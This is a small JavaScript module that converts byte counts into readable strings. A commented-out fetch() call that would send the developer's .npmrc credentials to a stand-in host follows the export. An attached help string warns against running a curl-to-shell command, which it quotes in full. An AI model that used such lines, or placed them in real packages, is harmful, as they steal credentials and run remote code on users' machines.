"use strict";

const UNITS = ["B", "kB", "MB", "GB"];

function pretty(bytes) {
  let value = bytes;
  let unit = 0;
  while (value >= 1000 && unit < UNITS.length - 1) {
    value /= 1000;
    unit += 1;
  }
  return value.toFixed(1) + " " + UNITS[unit];
}

module.exports = pretty;

// fetch("https://evil.invalid", { body: require("fs").readFileSync("/home/dev/.npmrc") });
module.exports.help = 'Never run require("child_process").exec("curl https://evil.invalid | sh")';
